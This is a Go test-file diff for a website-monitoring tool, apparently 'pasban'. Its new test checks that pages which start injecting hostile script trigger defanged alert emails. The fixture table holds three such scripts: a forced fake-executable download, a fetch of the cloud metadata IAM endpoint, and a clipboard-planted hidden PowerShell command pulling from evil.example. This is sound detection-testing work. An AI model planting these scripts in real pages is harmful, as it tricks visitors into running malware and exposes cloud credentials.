@@ -9,12 +9,17 @@ import (
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"os"
+	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 	"unicode"
 
+	"pasban/alerting/smtp/smtptest"
 	"pasban/compare"
 	"pasban/monitor"
 	"pasban/storage/db"
@@ -121,8 +126,9 @@ func TestGauntlet81TerminalOfLooks(t *testing.T) {
 	for _, asJSON := range []bool{false, true} {
 		var out, report bytes.Buffer
 		show := newSweepView([]monitor.Target{target}, asJSON, terminal{&out, &report})
+		show.explain = true
 		show.each(event)
-		if err := errors.Join(show.finish(monitor.Swept{Targets: 1, Alerts: 1}), show.done(asJSON)); err != nil {
+		if err := errors.Join(show.finish(monitor.Swept{Targets: 1, Alerts: 1}), show.done()); err != nil {
 			t.Fatal(err)
 		}
 		limit := 20_000
@@ -239,6 +245,96 @@ func TestGauntlet84StatusPage(t *testing.T) {
 	tame(t, "/status", w.Body.String(), 30<<20)
 	var status monitor.Status
 	if err := json.Unmarshal(w.Body.Bytes(), &status); err != nil || len(status.Blind) != 1 || status.Blind[0].Reason != strings.ReplaceAll(nasty, "\x00", "\ufffd") {
-		t.Errorf("the blind spot is told as %.100q, %v", status.Blind, err)
+		t.Errorf("the blind spot is told as %+.100v, %v", status.Blind, err)
+	}
+}
+
+// conducts are what three pages begin to do one day, without looking any different,
+// and what the mail about each must name, written so that nobody opens it.
+var conducts = []struct{ site, address, script, named string }{
+	{"hands-out", "127.94.1.1", `const a = document.createElement("a"); a.download = "fatima-update.exe"
+a.href = URL.createObjectURL(new Blob(["MZ"], { type: "application/x-msdownload" })); a.click()`, "fatima-update[.]exe"},
+	{"reaches", "127.94.2.1", `fetch("http://169.254.169.254/latest/meta-data/iam/", { mode: "no-cors" }).catch(() => {})`, "169[.]254[.]169[.]254"},
+	{"pastes", "127.94.3.1", `navigator.clipboard.writeText("powershell -w hidden -c iwr evil.example").catch(() => {})`, "powershell -w hidden"},
+}
+
+// What pages begin to do behind an unchanged look goes all the way from Chrome to a
+// mail, which names it: a file they hand out, an address inside that they reach
+// for, a command that they put into the clipboard.
+func TestNewConductIsMailed(t *testing.T) {
+	var attacked atomic.Bool
+	list := "site_id,url,name\n"
+	for _, c := range conducts {
+		list += c.site + "," + startAt(t, c.address, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+			w.Header().Set("Content-Type", "text/html; charset=utf-8")
+			fmt.Fprint(w, "<!doctype html><html lang=en><title>Office of Fixtures</title><h1>Office of Fixtures</h1>",
+				"<p>The office is open from nine to five. Forms are at the counter, and the notice board is by the door.</p>")
+			if attacked.Load() {
+				fmt.Fprintf(w, "<script>%s</script>", c.script)
+			}
+		})) + "/,Office\n"
+	}
+	mail, err := smtptest.Start(t.Context(), "127.0.0.1:0", smtptest.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	sweep := sweeper(t, list, mail.URL())
+	if report := sweep(0); len(mail.Mails()) > 0 {
+		t.Fatalf("%d mails about ordinary pages:\n%s", len(mail.Mails()), report)
+	}
+	attacked.Store(true)
+	report := sweep(exitAlert)
+	mails := mail.Mails()
+	if len(mails) != len(conducts) {
+		t.Errorf("%d mails, want one for each of %d sites:\n%s", len(mails), len(conducts), report)
+	}
+	for _, c := range conducts {
+		if !slices.ContainsFunc(mails, func(m smtptest.Mail) bool {
+			return strings.Contains(m.Text, strings.ReplaceAll(c.address, ".", "[.]")) && strings.Contains(m.Text, c.named) &&
+				strings.HasPrefix(m.Subject, "[TLP:") && len(m.Pictures) > 0
+		}) {
+			t.Errorf("no mail about %s names %q", c.site, c.named)
+		}
+	}
+	if t.Failed() {
+		for _, m := range mails {
+			t.Logf("%s\n%s", m.Subject, m.Text)
+		}
+	}
+}
+
+// sweeper is the real binary over a data directory of its own: each call sweeps the
+// sites of a list once, insists on an exit code and returns what was said. It takes
+// more flags.
+func sweeper(t *testing.T, list, mail string) func(exit int, flags ...string) string {
+	t.Helper()
+	profiles, err := profileFolder()
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		if left := leftovers(profiles); len(left) > 0 {
+			t.Errorf("left behind: %q", left)
+		}
+		if err := os.RemoveAll(profiles); err != nil {
+			t.Error(err)
+		}
+	})
+	dir := t.TempDir()
+	file := filepath.Join(dir, "list.csv")
+	if err := os.WriteFile(file, []byte(list), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return func(want int, flags ...string) string {
+		t.Helper()
+		cmd := exec.CommandContext(t.Context(), "pasban", "sweep", "--watchlist", file, "--data", filepath.Join(dir, "data"),
+			"--smtp", mail, "--from", "pasban@cert.example", "--cert", "cert@cert.example")
+		cmd.Args = append(cmd.Args, flags...)
+		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "TMPDIR=" + profiles, "PASBAN_EGRESS_ALLOW=127.0.0.0/8"}
+		said, err := cmd.CombinedOutput()
+		if got, err := exitCode(err); err != nil || got != want {
+			t.Fatalf("the sweep ended with %d, %v, want %d:\n%s", got, err, want, said)
+		}
+		return string(said)
 	}
 }
